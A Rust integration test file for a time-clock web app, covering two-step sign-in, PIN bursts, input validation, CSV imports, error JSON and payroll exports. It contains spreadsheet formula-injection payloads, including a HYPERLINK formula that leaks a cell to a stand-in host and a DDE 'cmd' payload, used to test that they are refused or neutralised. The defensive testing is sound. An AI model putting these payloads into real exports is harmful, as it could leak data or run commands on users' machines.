//! Inputs that must be possible (issue 23): codes used once, bursts that never fail, exports that
//! no spreadsheet runs, corrections and texts that make sense, imports checked line by line, the
//! documented error JSON everywhere, strict export parameters and resends that must match.
//! Each runs on SQLite and PostgreSQL.

use crate::helpers::*;
use reqwest::header::{COOKIE, SET_COOKIE};
use reqwest::redirect::Policy;
use reqwest::{Client, Response, StatusCode};
use serde_json::{json, Value};

const BACKENDS: [Backend; 2] = [Backend::Sqlite, Backend::Postgres];

/// A browser-like client that does not follow redirects.
pub(crate) fn browser() -> Client {
    Client::builder().redirect(Policy::none()).build().unwrap()
}

/// `name=value` of the `Set-Cookie` for `name`.
fn cookie(response: &Response, name: &str) -> Option<String> {
    let header =
        response.headers().get_all(SET_COOKIE).iter().filter_map(|v| v.to_str().ok()).find(|v| v.starts_with(&format!("{name}=")))?;
    header.split(';').next().map(str::to_owned)
}

/// The value of hidden field `name` in a page.
fn hidden(html: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = html.find(&marker).unwrap_or_else(|| panic!("no field {name} in {html}")) + marker.len();
    html[start..].split('"').next().unwrap().to_owned()
}

fn unix_now() -> u64 {
    u64::try_from(chrono::Utc::now().timestamp()).unwrap()
}

/// Turns two-step sign-in on for `admin`; returns the secret and the code that confirmed it.
async fn two_step_on(app: &TestApp, admin: &Admin) -> (Vec<u8>, String) {
    let setup: Value = app.post(&admin.token, "/api/v1/auth/two-step", json!({})).await.json().await.unwrap();
    let secret = totp_rs::Secret::Encoded(setup["secret_base32"].as_str().unwrap().to_owned()).to_bytes().unwrap();
    let code = clockface_app::totp::code_at(&secret, unix_now()).unwrap();
    let confirmed = app.post(&admin.token, "/api/v1/auth/two-step/confirm", json!({"setup": setup["setup"], "code": code})).await;
    assert_eq!(confirmed.status(), StatusCode::OK);
    (secret, code)
}

/// The admin page's sign-in form sent with the e-mail and password: the pre-sign-in cookie, its
/// CSRF token and the answer.
async fn page_password(app: &TestApp, email: &str, next: &str) -> (String, String, Response) {
    let client = browser();
    let page = client.get(app.url("/admin/sign-in")).send().await.unwrap();
    let pre = cookie(&page, "cf_signin").unwrap();
    let csrf = hidden(&page.text().await.unwrap(), "_csrf");
    let answer = client
        .post(app.url("/admin/sign-in"))
        .header(COOKIE, &pre)
        .form(&[("_csrf", csrf.as_str()), ("email", email), ("password", "correct horse battery"), ("next", next)])
        .send()
        .await
        .unwrap();
    (pre, csrf, answer)
}

/// The admin page's sign-in up to the code form: the pre-sign-in cookie, CSRF token and pending sign-in.
async fn page_code_form(app: &TestApp, email: &str) -> (String, String, String) {
    let (pre, csrf, form) = page_password(app, email, "/admin").await;
    assert_eq!(form.status(), StatusCode::OK);
    let pending = hidden(&form.text().await.unwrap(), "pending");
    (pre, csrf, pending)
}

async fn page_code(app: &TestApp, (pre, csrf, pending): &(String, String, String), code: &str) -> Response {
    browser()
        .post(app.url("/admin/sign-in/code"))
        .header(COOKIE, pre)
        .form(&[("_csrf", csrf.as_str()), ("pending", pending.as_str()), ("code", code), ("next", "/admin")])
        .send()
        .await
        .unwrap()
}

async fn api_code(app: &TestApp, email: &str, code: &str) -> StatusCode {
    let body = json!({"email": email, "password": "correct horse battery", "totp_code": code});
    app.client.post(app.url("/api/v1/auth/login")).json(&body).send().await.unwrap().status()
}

/// RFC 6238 5.2: a code accepted once is refused after, on the page and over the API, and so is
/// any code of an earlier step.
#[tokio::test]
async fn a_two_step_code_signs_in_once() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let (secret, confirming) = two_step_on(&app, &admin).await;
        assert_eq!(
            api_code(&app, "ana@acme.test", &confirming).await,
            StatusCode::UNAUTHORIZED,
            "{backend:?}: the confirming code is used"
        );

        // The next step's code (one step of skew) signs in on the page, once.
        let next = clockface_app::totp::code_at(&secret, unix_now() + 30).unwrap();
        let form = page_code_form(&app, "ana@acme.test").await;
        let signed = page_code(&app, &form, &next).await;
        assert!(cookie(&signed, "cf_session").is_some(), "{backend:?}: the page signs in");
        let form = page_code_form(&app, "ana@acme.test").await;
        let again = page_code(&app, &form, &next).await;
        assert_eq!(again.status(), StatusCode::UNAUTHORIZED, "{backend:?}: the page refuses it the second time");
        assert!(cookie(&again, "cf_session").is_none());
        assert!(again.text().await.unwrap().contains("was used already"));
        assert_eq!(api_code(&app, "ana@acme.test", &next).await, StatusCode::UNAUTHORIZED, "{backend:?}: and so does the API");
        let earlier = clockface_app::totp::code_at(&secret, unix_now() - 30).unwrap();
        assert_eq!(api_code(&app, "ana@acme.test", &earlier).await, StatusCode::UNAUTHORIZED, "{backend:?}: an earlier step too");
    }
}

/// Forty PIN sign-ins sent at once to one device, right and wrong ones mixed: each is judged or
/// refused (200, 401, 423, 429), none fails with a 500 ("database is locked" on SQLite, once).
#[tokio::test]
async fn a_burst_of_pin_sign_ins_is_answered_without_a_server_error() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let role = app.role(&admin, "Crew", json!({})).await;
        for n in 0..4 {
            app.employee(&admin, &format!("Worker {n}"), &format!("{n}"), &role, Some(&format!("{}", 2468 + n))).await;
        }
        let device = app.device(&admin, false).await;
        let sign_ins = (0..40).map(|n| {
            let pin = if n % 2 == 0 { format!("{}", 2468 + n % 4) } else { format!("{}", 9000 + n) };
            let (app, device) = (&app, &device);
            async move {
                let response = app.post(device, "/api/v1/device/sign-in", json!({"pin": pin})).await;
                let status = response.status();
                (status, response.text().await.unwrap())
            }
        });
        let answers = futures::future::join_all(sign_ins).await;
        for (status, body) in &answers {
            assert!(
                [StatusCode::OK, StatusCode::UNAUTHORIZED, StatusCode::LOCKED, StatusCode::TOO_MANY_REQUESTS].contains(status),
                "{backend:?}: {status} {body}"
            );
        }
        let judged = answers.iter().filter(|(status, _)| [StatusCode::OK, StatusCode::UNAUTHORIZED].contains(status)).count();
        assert!(judged > 0, "{backend:?}: the guesses within the device's limit were judged");
        app.assert_healthy().await;
    }
}

/// Signs in on the pages (no second step): the session cookie and the CSRF token of its forms.
pub(crate) async fn page_session(app: &TestApp, email: &str) -> (String, String) {
    let client = browser();
    let (_, _, signed) = page_password(app, email, "/admin/roles").await;
    let session = cookie(&signed, "cf_session").expect("signed in");
    let roles = client.get(app.url("/admin/roles")).header(COOKIE, &session).send().await.unwrap();
    (session.clone(), hidden(&roles.text().await.unwrap(), "_csrf"))
}

async fn page_post(app: &TestApp, (session, csrf): &(String, String), path: &str, fields: &[(&str, &str)]) -> Response {
    let mut form = vec![("_csrf", csrf.as_str())];
    form.extend_from_slice(fields);
    browser().post(app.url(path)).header(COOKIE, session).form(&form).send().await.unwrap()
}

/// The names and numbers a spreadsheet would run, from the issue.
const HOSTILE: [&str; 7] = ["=HYPERLINK(\"http://x?d=\"&A1,\"x\")", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+1", "-1-1", "\tTab", "\rReturn"];

/// Every cell of a CSV file (the import's reader, RFC 4180).
fn cells(csv: &str) -> Vec<String> {
    clockface_domain::job::parse_csv(csv).unwrap().into_iter().flat_map(|(_, record)| record).collect()
}

/// Hostile names and numbers are refused where they are entered (API and page, employees, jobs,
/// cost codes, CSV import) with a 422 naming the field; nothing is stored.
#[tokio::test]
async fn names_a_spreadsheet_would_run_are_refused_where_they_are_entered() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let role = app.role(&admin, "Crew", json!({})).await;
        let ada = app.employee(&admin, "Ada Lovelace", "1", &role, None).await;
        let job = id(app.post(&admin.token, "/api/v1/jobs", json!({"number": "J-1", "name": "Depot"})).await).await;
        let code = id(app.post(&admin.token, "/api/v1/cost-codes", json!({"number": "C-1", "name": "Forms"})).await).await;
        let session = page_session(&app, "ana@acme.test").await;
        for hostile in HOSTILE {
            let refused = |field: &'static str| {
                move |response: Response| async move {
                    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?} {hostile:?}");
                    let body: Value = response.json().await.unwrap();
                    assert_eq!(body["error"]["field"], field, "{backend:?} {hostile:?}: {body}");
                }
            };
            let employee = |name: &str, number: &str| json!({"name": name, "number": number, "role_id": role});
            refused("name")(app.post(&admin.token, "/api/v1/employees", employee(hostile, "9")).await).await;
            refused("number")(app.post(&admin.token, "/api/v1/employees", employee("Bo Diddley", hostile)).await).await;
            refused("name")(app.put(&admin.token, &format!("/api/v1/employees/{ada}"), employee(hostile, "1")).await).await;
            refused("name")(app.post(&admin.token, "/api/v1/jobs", json!({"number": "J-9", "name": hostile})).await).await;
            refused("number")(app.post(&admin.token, "/api/v1/jobs", json!({"number": hostile, "name": "Yard"})).await).await;
            refused("name")(app.put(&admin.token, &format!("/api/v1/jobs/{job}"), json!({"number": "J-1", "name": hostile})).await).await;
            refused("name")(app.post(&admin.token, "/api/v1/cost-codes", json!({"number": "C-9", "name": hostile})).await).await;
            refused("number")(
                app.put(&admin.token, &format!("/api/v1/cost-codes/{code}"), json!({"number": hostile, "name": "Forms"})).await,
            )
            .await;
            // A CSV import names the line.
            let quoted = hostile.replace('"', "\"\"");
            let csv = format!("number,name\r\nJ-2,Yard\r\nJ-3,\"{quoted}\"\r\n");
            let import = app
                .client
                .post(app.url("/api/v1/jobs/import"))
                .bearer_auth(&admin.token)
                .header("content-type", "text/csv")
                .body(csv)
                .send()
                .await
                .unwrap();
            assert_eq!(import.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?} {hostile:?}");
            let body: Value = import.json().await.unwrap();
            assert_eq!(body["lines"][0]["line"], 3, "{backend:?} {hostile:?}: {body}");
            // The page shows it beside the field, and stores nothing.
            let page = page_post(&app, &session, "/admin/employees", &[("name", hostile), ("number", "9"), ("role_id", &role)]).await;
            assert_eq!(page.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?} {hostile:?}");
        }
        let employees: Value = app.get(&admin.token, "/api/v1/employees").await.json().await.unwrap();
        assert_eq!(employees.as_array().unwrap().len(), 1, "{backend:?}: nothing was stored");
        let jobs: Value = app.get(&admin.token, "/api/v1/jobs").await.json().await.unwrap();
        assert_eq!(jobs.as_array().unwrap().len(), 1, "{backend:?}: nothing was stored");
        assert_eq!(jobs[0]["name"], "Depot");
    }
}

/// Names stored before the rule (written to the store directly here) never run in a spreadsheet:
/// the CSVs meant for people (hours, Gusto, job costing, audit) make every such cell text with a
/// leading `'`; the import formats that cannot (ADP, Paychex, QuickBooks) refuse with a 422 that
/// names the employee, and record no export.
#[tokio::test]
async fn exports_never_hold_a_cell_a_spreadsheet_would_run() {
    use clockface_domain::employee::{EmployeeName, EmployeeNumber};
    use clockface_domain::job::{JobFields, JobNumber};
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        assert_eq!(app.put(&admin.token, "/api/v1/payroll/settings", payroll_settings()).await.status(), StatusCode::OK);
        let role = app.role(&admin, "Crew", json!({})).await;
        let device = app.device(&admin, false).await;
        let store = app.running.state.store.as_ref();
        let company: clockface_domain::ids::CompanyId = admin.company_id.parse().unwrap();
        let job = store
            .save_job(
                company,
                None,
                &JobFields {
                    number: JobNumber::parse("-1-1").unwrap(),
                    name: "=cmd|' /C calc'!A0".into(),
                    address: String::new(),
                    geofence: None,
                    active: true,
                },
            )
            .await
            .unwrap();
        let stored =
            [("=HYPERLINK(\"http://x?d=\"&A1,\"x\")", "-1-1"), ("@SUM(1+1)", "2"), ("=cmd|' /C calc'!A0", "3"), ("+1", "4"), ("-1-1", "5")];
        for (n, (name, number)) in stored.iter().enumerate() {
            let employee = app.employee(&admin, &format!("Worker {n}"), &format!("W{n}"), &role, None).await;
            let fields = clockface_store::EmployeeFields {
                name: EmployeeName::parse(name).unwrap(),
                number: EmployeeNumber::parse(number).unwrap(),
                role_id: role.parse().unwrap(),
                active: true,
                pin: clockface_store::PinChange::Keep,
            };
            store.update_employee(company, employee.parse().unwrap(), &fields).await.unwrap();
            for (kind, at) in [("in", "2026-11-16T07:00:00-06:00"), ("out", "2026-11-16T15:00:00-06:00")] {
                let mut body = punch_body(&employee, kind, at);
                body["job_id"] = json!(job.id);
                assert_eq!(app.punch(&device, &body).await.status(), StatusCode::CREATED);
            }
            let reason = json!({"action": "add", "kind": "in", "at": "2026-11-18T07:00:00-06:00", "reason": name});
            assert_eq!(
                app.post(&admin.token, &format!("/api/v1/employees/{employee}/corrections"), reason).await.status(),
                StatusCode::CREATED
            );
        }
        let people = [
            "/api/v1/payroll/periods/2026-11-16/export?format=csv",
            "/api/v1/payroll/periods/2026-11-16/export?format=gusto",
            "/api/v1/payroll/costing/csv?date=2026-11-16",
            "/api/v1/audit/csv",
        ];
        for path in people {
            let response = app.get(&admin.token, path).await;
            assert_eq!(response.status(), StatusCode::OK, "{backend:?} {path}");
            let body = response.text().await.unwrap();
            let cells = cells(&body);
            let live: Vec<&String> = cells.iter().filter(|c| clockface_domain::text::starts_formula(c)).collect();
            assert!(live.is_empty(), "{backend:?} {path}: cells a spreadsheet would run: {live:?}");
            if !path.contains("audit") {
                assert!(
                    cells.iter().any(|c| c.starts_with("'=") || c.starts_with("'@") || c.starts_with("'-")),
                    "{backend:?} {path}: {body}"
                );
            }
        }
        for format in ["adp_wfn", "adp_run", "paychex", "quickbooks_iif"] {
            let response = app.get(&admin.token, &format!("/api/v1/payroll/periods/2026-11-16/export?format={format}")).await;
            let message = expect_error(response, StatusCode::UNPROCESSABLE_ENTITY, "invalid").await;
            assert!(message.contains("employee") && message.contains("formula"), "{backend:?} {format}: {message}");
        }
        let period: Value = app.get(&admin.token, "/api/v1/payroll/periods?date=2026-11-16").await.json().await.unwrap();
        let formats: Vec<&str> = period["exports"].as_array().unwrap().iter().map(|e| e["format"].as_str().unwrap()).collect();
        assert!(formats.iter().all(|f| ["csv", "gusto"].contains(f)), "{backend:?}: only the people's files were recorded: {formats:?}");
    }
}

/// NUL and the other control characters are refused in every text field on both backends (422
/// naming the field), where SQLite once stored them and PostgreSQL answered 500.
#[tokio::test]
async fn control_characters_are_refused_in_every_text_field() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        app.publish_policy(&admin).await;
        let role = app.role(&admin, "Crew", json!({})).await;
        let ada = app.employee(&admin, "Ada Lovelace", "1", &role, None).await;
        for bad in ["Ada\0Lovelace", "Ada\tLovelace", "Ada\u{1b}[2J", "Ada\u{85}Lovelace", "Ada\u{7f}"] {
            let cases: Vec<(&str, Response, &str)> = vec![
                (
                    "correction reason",
                    app.post(
                        &admin.token,
                        &format!("/api/v1/employees/{ada}/corrections"),
                        json!({"action": "add", "kind": "in", "at": "2026-11-16T07:00:00-06:00", "reason": bad}),
                    )
                    .await,
                    "reason",
                ),
                (
                    "release signature",
                    app.put(
                        &admin.token,
                        &format!("/api/v1/employees/{ada}/release"),
                        json!({"decision": "signed", "signed_name": bad, "release_version": clockface_domain::privacy::RELEASE_VERSION}),
                    )
                    .await,
                    "signed_name",
                ),
                (
                    "employee name",
                    app.post(&admin.token, "/api/v1/employees", json!({"name": bad, "number": "9", "role_id": role})).await,
                    "name",
                ),
                ("role name", app.post(&admin.token, "/api/v1/roles", json!({"name": bad, "abilities": {}})).await, "name"),
                (
                    "job address",
                    app.post(&admin.token, "/api/v1/jobs", json!({"number": "J-1", "name": "Depot", "address": bad})).await,
                    "address",
                ),
                (
                    "deletion reason",
                    app.post(&admin.token, &format!("/api/v1/employees/{ada}/biometrics/delete"), json!({"reason": bad, "photos": false}))
                        .await,
                    "reason",
                ),
            ];
            for (case, response, field) in cases {
                assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?} {case} {bad:?}");
                let body: Value = response.json().await.unwrap();
                assert_eq!(body["error"]["field"], field, "{backend:?} {case} {bad:?}: {body}");
            }
            // A CSV import cell too, with its line.
            let import = app
                .client
                .post(app.url("/api/v1/jobs/import"))
                .bearer_auth(&admin.token)
                .header("content-type", "text/csv")
                .body(format!("number,name\nJ-5,\"{bad}\"\n"))
                .send()
                .await
                .unwrap();
            assert_eq!(import.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?} import {bad:?}");
            let body: Value = import.json().await.unwrap();
            assert_eq!(body["lines"][0]["line"], 2, "{backend:?}: {body}");
        }
        // A reason may have lines.
        let lines = json!({"action": "add", "kind": "in", "at": "2026-11-16T07:00:00-06:00", "reason": "Forgot.\r\nSays the foreman."});
        assert_eq!(app.post(&admin.token, &format!("/api/v1/employees/{ada}/corrections"), lines).await.status(), StatusCode::CREATED);
        let card: Value = app.get(&admin.token, &format!("/api/v1/employees/{ada}/timecard?from=2026-11-16")).await.json().await.unwrap();
        assert!(card.to_string().contains("Forgot.\\nSays the foreman."), "{backend:?}: kept with its line break");
        assert!(!card.to_string().contains("\\u0000"), "{backend:?}: no NUL stored");
        app.assert_healthy().await;
    }
}

/// Corrections that would make an impossible card are refused (422 naming `at`), and nothing is
/// stored: a clock-out before its clock-in, a clock-in after its clock-out, a time in the future,
/// a time in 1900. The same on the correction page.
#[tokio::test]
async fn impossible_corrections_are_refused() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let role = app.role(&admin, "Crew", json!({})).await;
        let ada = app.employee(&admin, "Ada Lovelace", "1", &role, None).await;
        let device = app.device(&admin, false).await;
        let punch_id = |response: Response| async move {
            let body: Value = response.json().await.unwrap();
            body["punch"]["id"].as_str().or(body["id"].as_str()).unwrap().to_owned()
        };
        let punch_in = punch_id(app.punch(&device, &punch_body(&ada, "in", "2026-11-16T07:00:00-06:00")).await).await;
        let punch_out = punch_id(app.punch(&device, &punch_body(&ada, "out", "2026-11-16T15:00:00-06:00")).await).await;
        let corrections = format!("/api/v1/employees/{ada}/corrections");
        let correct = |body: Value| app.post(&admin.token, &corrections, body);
        let move_to =
            |punch: &str, at: &str| json!({"action": "move", "replaces": {"type": "punch", "id": punch}, "at": at, "reason": "fix"});
        let future = (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339();
        let cases = [
            ("a clock-out before its clock-in", move_to(&punch_out, "2026-11-16T06:00:00-06:00")),
            ("a clock-in after its clock-out", move_to(&punch_in, "2026-11-16T16:00:00-06:00")),
            ("a clock-in 30 days ahead", move_to(&punch_in, &future)),
            ("an added punch 30 days ahead", json!({"action": "add", "kind": "in", "at": future, "reason": "fix"})),
            ("a punch in 1900", json!({"action": "add", "kind": "in", "at": "1900-01-01T08:00:00-06:00", "reason": "fix"})),
        ];
        for (case, body) in cases {
            let response = correct(body).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?}: {case}");
            let error: Value = response.json().await.unwrap();
            assert_eq!(error["error"]["field"], "at", "{backend:?}: {case}: {error}");
        }
        // A possible move is taken.
        assert_eq!(correct(move_to(&punch_out, "2026-11-16T15:30:00-06:00")).await.status(), StatusCode::CREATED);
        // The page refuses the same: the clock-in's own form opens again with what was typed and
        // the refusal beside its time.
        let session = page_session(&app, "ana@acme.test").await;
        let form = format!("edit-punch-{punch_in}");
        let page = page_post(
            &app,
            &session,
            "/admin/time-cards/corrections",
            &[
                ("employee", &ada),
                ("from", "2026-11-16"),
                ("form", &form),
                ("action", "move"),
                ("target_type", "punch"),
                ("target_id", &punch_in),
                ("date", "2026-11-16"),
                ("time", "17:00"),
                ("reason", "Came in late"),
            ],
        )
        .await;
        assert_eq!(page.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?}: the page");
        let html = page.text().await.unwrap();
        let start = html.find(&format!("value=\"{form}\"")).expect("the clock-in's form");
        let details = &html[html[..start].rfind("<details").unwrap()..];
        let details = &details[..details.find("</details>").unwrap()];
        assert!(details.starts_with("<details class=\"punch-edit\" open>"), "{backend:?}: the form is open: {details}");
        let error = format!("<span class=\"field-error\" id=\"{form}-when\" role=\"alert\">");
        let message = &details[details.find(&error).unwrap_or_else(|| panic!("{backend:?}: beside the time: {details}"))..];
        assert!(message.contains("a shift cannot end before it starts"), "{backend:?}: {message}");
        assert!(details.contains(&format!("aria-describedby=\"{form}-when\"")), "the time field points at its error");
        assert!(details.contains("value=\"17:00\"") && details.contains("value=\"Came in late\""), "what was typed stays: {details}");
        assert_eq!(html.matches("class=\"field-error\"").count(), 1, "{backend:?}: only that form shows it");
        // A missed punch in 1900: the add form opens again, its kind kept.
        let fields = [("employee", ada.as_str()), ("from", "2026-11-16"), ("form", "add"), ("action", "add"), ("kind", "out")];
        let typed = [("date", "1900-01-01"), ("time", "08:00"), ("reason", "Forgot")];
        let page = page_post(&app, &session, "/admin/time-cards/corrections", &[&fields[..], &typed[..]].concat()).await;
        assert_eq!(page.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?}: the add form");
        let html = page.text().await.unwrap();
        assert!(html.contains("<details class=\"panel add-punch\" open>"), "{backend:?}");
        assert!(html.contains("<span class=\"field-error\" id=\"add-when\" role=\"alert\">"), "{backend:?}: {html}");
        assert!(html.contains("<option value=\"out\" selected>") && html.contains("value=\"1900-01-01\""), "{backend:?}");
        let (from, to) = (time("2026-11-01T00:00:00Z").to_utc(), time("2026-12-01T00:00:00Z").to_utc());
        let all = app.running.state.store.corrections(admin.company_id.parse().unwrap(), None, from, to).await.unwrap();
        assert_eq!(all.len(), 1, "{backend:?}: only the possible correction was stored");
        // A voided punch is listed under the card with why, when and by whom.
        let fields = [("employee", ada.as_str()), ("from", "2026-11-16"), ("action", "void"), ("target_type", "punch")];
        let void = [("target_id", punch_in.as_str()), ("reason", "Clocked in by mistake")];
        let voided = page_post(&app, &session, "/admin/time-cards/corrections", &[&fields[..], &void[..]].concat()).await;
        assert_eq!(voided.status(), StatusCode::SEE_OTHER, "{backend:?}");
        let card = browser()
            .get(app.url(&format!("/admin/time-cards?employee={ada}&from=2026-11-16")))
            .header(COOKIE, &session.0)
            .send()
            .await
            .unwrap();
        let html = card.text().await.unwrap();
        let list = &html[html.find("class=\"voided-list\"").expect("the voided list")..];
        let item = &list[..list.find("</li>").unwrap()];
        assert!(item.contains("Clocked in by mistake") && item.contains("by ana@acme.test") && item.contains("voided"), "{item}");
    }
}

/// A CSV import checks each line's field count against the header (too many and too few both
/// refused, each line named), a non-UTF-8 file's error names its line, and a 2 MB file gets the
/// JSON 413. Nothing is imported.
#[tokio::test]
async fn csv_imports_check_every_line() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let import = |body: Vec<u8>| {
            app.client.post(app.url("/api/v1/jobs/import")).bearer_auth(&admin.token).header("content-type", "text/csv").body(body).send()
        };
        let csv = "number,name,address\r\nJ-1,Depot,1 Main St\r\nJ-2,Yard,2 Side St,extra\r\nJ-3,Shop\r\nJ-4,Lot,4 Back Rd\r\n";
        let response = import(csv.as_bytes().to_vec()).await.unwrap();
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?}");
        let body: Value = response.json().await.unwrap();
        let lines: Vec<i64> = body["lines"].as_array().unwrap().iter().map(|l| l["line"].as_i64().unwrap()).collect();
        assert_eq!(lines, [3, 4], "{backend:?}: {body}");
        assert!(body["lines"][0]["message"].as_str().unwrap().contains("too many"), "{body}");
        assert!(body["lines"][1]["message"].as_str().unwrap().contains("too few"), "{body}");

        let mut latin1 = b"number,name\nJ-1,Depot\nJ-2,Caf".to_vec();
        latin1.extend([0xE9, b'\n']);
        let response = import(latin1).await.unwrap();
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["code"], "invalid_csv");
        assert_eq!(body["lines"][0]["line"], 3, "{backend:?}: {body}");

        let mut big = b"number,name\n".to_vec();
        while big.len() < 2_100_000 {
            big.extend_from_slice(b"J-1,Depot with a long name to fill the file up\n");
        }
        let response = import(big).await.unwrap();
        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE, "{backend:?}");
        assert!(response.headers()["content-type"].to_str().unwrap().starts_with("application/json"));
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["code"], "body_too_large", "{backend:?}: {body}");
        let jobs: Value = app.get(&admin.token, "/api/v1/jobs").await.json().await.unwrap();
        assert_eq!(jobs, json!([]), "{backend:?}: nothing imported");
    }
}

/// Every error answer of the API is the documented JSON: an unknown path (404), a wrong method
/// (405), a body too large (413), a request target too long (414, also past the 64 KiB hyper
/// reads), headers larger than hyper's buffer (431).
#[tokio::test]
async fn every_api_error_is_the_documented_json() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let search = "a".repeat(9_000);
        let cases: Vec<(&str, Response, StatusCode, &str)> = vec![
            ("unknown path", app.get(&admin.token, "/api/v1/no-such-thing").await, StatusCode::NOT_FOUND, "not_found"),
            (
                "wrong method",
                app.client.delete(app.url("/api/v1/jobs")).bearer_auth(&admin.token).send().await.unwrap(),
                StatusCode::METHOD_NOT_ALLOWED,
                "method_not_allowed",
            ),
            (
                "body too large",
                app.client
                    .post(app.url("/api/v1/roles"))
                    .bearer_auth(&admin.token)
                    .header("content-type", "application/json")
                    .body(format!("{{\"name\": \"{}\"}}", "x".repeat(3_000_000)))
                    .send()
                    .await
                    .unwrap(),
                StatusCode::PAYLOAD_TOO_LARGE,
                "body_too_large",
            ),
            (
                "long query",
                app.get(&admin.token, &format!("/api/v1/employees?search={search}")).await,
                StatusCode::URI_TOO_LONG,
                "uri_too_long",
            ),
            (
                "a 500 KB header",
                app.client.get(app.url("/api/v1/employees")).header("x-filler", "b".repeat(500_000)).send().await.unwrap(),
                StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE,
                "headers_too_large",
            ),
        ];
        for (case, response, status, code) in cases {
            assert_eq!(response.status(), status, "{backend:?}: {case}");
            let body: Value = response.json().await.unwrap_or_else(|e| panic!("{backend:?}: {case}: not JSON: {e}"));
            assert_eq!(body["error"]["code"], code, "{backend:?}: {case}: {body}");
            assert!(body["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "{backend:?}: {case}");
        }
        // Past the 64 KiB hyper reads (an HTTP client refuses to send it, so it goes over a plain
        // socket) and not HTTP at all: refused before clockface's code runs, in the same JSON.
        let raw_cases = [
            (format!("GET /api/v1/employees?search={} HTTP/1.1\r\nhost: x\r\n\r\n", "a".repeat(100_000)), 414, "uri_too_long"),
            ("GET /api/v1/employees HTTP/1.1\r\nhost x\r\n\r\n".to_owned(), 400, "bad_request"),
        ];
        for (request, status, code) in raw_cases {
            let answer = raw_http(&app, request.as_bytes()).await;
            let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_else(|| panic!("{backend:?}: a whole answer: {answer:.200}"));
            assert!(head.starts_with(&format!("HTTP/1.1 {status} ")), "{backend:?}: {head}");
            assert!(head.contains("content-type: application/json"), "{backend:?}: {head}");
            let body: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{backend:?}: {code}: not JSON: {e}: {body}"));
            assert_eq!(body["error"]["code"], code, "{backend:?}: {body}");
            assert!(body["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "{backend:?}: {code}");
        }
    }
}

/// Sends `request` as it is over a new connection and reads the answer until the server closes it.
async fn raw_http(app: &TestApp, request: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut socket = tokio::net::TcpStream::connect(app.running.addr).await.unwrap();
    socket.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    socket.read_to_end(&mut answer).await.unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

/// Export parameters are read strictly: a day not written YYYY-MM-DD and a format with a space
/// are refused with a 422 naming the parameter, and nothing is recorded as an export.
#[tokio::test]
async fn export_parameters_are_read_strictly() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        assert_eq!(app.put(&admin.token, "/api/v1/payroll/settings", payroll_settings()).await.status(), StatusCode::OK);
        let cases = [
            ("/api/v1/payroll/periods/2026-11-16/export?format=csv%20", "format"),
            ("/api/v1/payroll/periods/2026-11-16/export?format=CSV", "format"),
            ("/api/v1/payroll/periods/2026-11-6/export?format=csv", "start"),
            ("/api/v1/payroll/periods/2026-11-16%20/export?format=csv", "start"),
            ("/api/v1/payroll/costing/csv?date=2026-11-6", "date"),
        ];
        for (path, field) in cases {
            let response = app.get(&admin.token, path).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{backend:?}: {path}");
            let body: Value = response.json().await.unwrap();
            assert_eq!(body["error"]["field"], field, "{backend:?}: {path}: {body}");
        }
        let period: Value = app.get(&admin.token, "/api/v1/payroll/periods?date=2026-11-16").await.json().await.unwrap();
        assert_eq!(period["exports"], json!([]), "{backend:?}: nothing recorded");
        assert_eq!(app.get(&admin.token, "/api/v1/payroll/periods/2026-11-16/export?format=csv").await.status(), StatusCode::OK);
    }
}

/// A resend under a stored punch's client id that says something else is a 409 naming what
/// differs (photo rotation, settings version, or the punch itself); the same resend stays a 200.
#[tokio::test]
async fn a_resend_that_differs_is_a_conflict_naming_what_differs() {
    for backend in BACKENDS {
        let app = TestApp::spawn(backend).await;
        let admin = app.admin("ana@acme.test").await;
        let role = app.role(&admin, "Crew", json!({})).await;
        let ada = app.employee(&admin, "Ada Lovelace", "1", &role, None).await;
        let device = app.device(&admin, false).await;
        let mut first = punch_body(&ada, "in", &hours_ago(2));
        first["photo_rotation"] = json!(90);
        first["settings_version"] = json!(1);
        assert_eq!(app.punch(&device, &first).await.status(), StatusCode::CREATED, "{backend:?}");
        let same = app.punch(&device, &first).await;
        assert_eq!(same.status(), StatusCode::OK, "{backend:?}: the same resend is already stored");
